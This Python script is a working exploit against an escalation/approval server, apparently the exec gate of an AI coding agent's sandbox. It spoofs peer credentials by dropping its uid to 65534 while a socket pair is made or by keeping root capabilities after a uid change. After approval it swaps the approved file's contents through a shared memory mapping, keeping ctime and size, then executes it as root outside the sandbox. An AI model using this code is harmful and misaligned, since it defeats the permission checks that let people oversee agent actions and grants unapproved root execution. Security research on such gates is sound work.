"""Root, unsandboxed, in disguise: make the escalation server judge the file as for uid 65534,
get a Run, rewrite the file through a shared mapping (change time and size kept), execveat the
fd. HOW is ``euid`` (only the effective uid dropped while the socketpair is made: SO_PEERCRED is
taken then; root back after) or ``caps`` (every uid 65534, CAP_DAC_OVERRIDE, CAP_FOWNER and
CAP_SETUID kept: PR_SET_KEEPCAPS, capset).
usage: root_disguise_query.py HOW FILE SOURCE ARGV0..."""
import ctypes, errno, json, mmap, os, socket, struct, sys
how, file, source, argv = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
if how == "caps":
    libc0 = ctypes.CDLL(None, use_errno=True)
    libc0.prctl(8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS: the permitted set survives the uid change
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)  # every uid: /proc status holds no 0 now
    keep = (1 << 1) | (1 << 3) | (1 << 7)  # CAP_DAC_OVERRIDE, CAP_FOWNER, CAP_SETUID
    hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)(keep, keep, 0, 0, 0, 0)  # effective, permitted, inheritable (low words)
    assert libc0.capset(hdr, data) == 0, ctypes.get_errno()
fd = os.open(file, os.O_RDWR)
mapped = mmap.mmap(fd, os.fstat(fd).st_size, mmap.MAP_SHARED)
os.close(fd)
for page in range(0, len(mapped), mmap.PAGESIZE):
    mapped[page] = mapped[page]
dgram = socket.socket(fileno=os.dup(int(os.environ["CODEX_ESCALATE_SOCKET"])))
if how == "euid":
    os.setresuid(-1, 65534, -1)  # euid only: SO_PEERCRED of the pair is taken now
mine, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
if how == "euid":
    os.setresuid(-1, 0, -1)
caps = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0]
print("EUID BACK", os.geteuid(), "CAPS", caps, flush=True)
dgram.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", theirs.fileno()))])
theirs.close()
target = os.open(file, os.O_PATH | os.O_CLOEXEC)
mode = os.environ.get("MODE", "query")
body = json.dumps({"file": file, "argv": argv, "workdir": os.getcwd(), "env": {}, "execgate_target_fd": True,
                   **({"execgate_cached_only": True} if mode == "query" else {})}).encode()
mine.sendmsg([struct.pack("<I", len(body)) + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", target))])
(size,) = struct.unpack("<I", mine.recv(4, socket.MSG_WAITALL))
answer = json.loads(mine.recv(size, socket.MSG_WAITALL))
action = answer["action"] if isinstance(answer["action"], str) else next(iter(answer["action"]))
print(f"ANSWER {file} {action}", flush=True)
if action != "Run":
    sys.exit(0)
before = os.stat(file)
with open(source, "rb") as src:
    mapped[:] = src.read()
mapped.close()
after = os.stat(file)
print(f"CTIME SAME {before.st_ctime_ns == after.st_ctime_ns} SIZE SAME {before.st_size == after.st_size}", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
args = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
envp = (ctypes.c_char_p * 1)(None)
libc.syscall(322, target, b"", args, envp, 0x1000)
print(f"EXEC {errno.errorcode.get(ctypes.get_errno(), '?')}", flush=True)
